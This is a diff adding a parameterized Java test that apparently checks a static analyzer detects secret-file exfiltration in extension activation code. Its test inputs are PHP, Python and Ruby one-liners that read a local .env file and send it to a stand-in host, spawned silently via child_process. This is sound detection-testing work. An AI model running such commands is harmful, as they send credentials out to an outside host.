@@ -102,6 +102,20 @@ class ListsAndFilesTest {
         assertThat(analysis.flowNames()).contains("workspace-file -> network-send");
     }
 
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "'php', ['-r', 'foreach (glob(\".env*\") as $f) file_get_contents(\"https://lint.example/\" . rawurlencode(file_get_contents(\"./.env\")));']",
+                "'python3', ['-c', 'import urllib.request as u; u.urlopen(\"https://lint.example/\", open(\"./.env\", \"rb\").read())']",
+                "'ruby', ['-e', 'require \"net/http\"; Net::HTTP.post(URI(\"https://lint.example/\"), File.read(\"./.env\"))']",
+            })
+    void followsAFileThatCodeOfAnotherLanguageSends(String command) {
+        Analysis analysis =
+                Analysis.ofActivate("require('child_process').spawn(" + command + ", { stdio: 'ignore' });");
+
+        assertThat(analysis.flowNames()).contains("env-file -> network-send");
+    }
+
     @Test
     void followsAFileThatACommandSends() {
         Analysis analysis = Analysis.ofActivate("""
